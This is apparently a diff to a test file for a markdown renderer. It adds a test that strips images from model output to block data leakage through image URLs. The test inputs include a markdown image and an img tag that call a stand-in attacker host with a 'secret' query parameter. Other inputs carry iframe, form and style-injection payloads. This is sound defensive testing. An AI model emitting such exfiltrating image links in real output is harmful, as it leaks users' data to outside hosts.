@@ -45,6 +45,11 @@ describe("renderMarkdown", () => {
     expect(a?.getAttribute("rel")).toContain("noopener");
   });
 
+  it("loads no images from model output (no data can leave through an image URL)", () => {
+    const d = dom(renderMarkdown('![x](https://evil.example/leak?d=secret) <img src="https://evil.example/t.png">'));
+    expect(d.querySelector("img")).toBeNull();
+  });
+
   it("removes iframes, forms and inline styles", () => {
     const d = dom(renderMarkdown('<iframe src="https://e.org"></iframe><form><input></form><p style="position:fixed">p</p>'));
     expect(d.querySelector("iframe, form, input")).toBeNull();
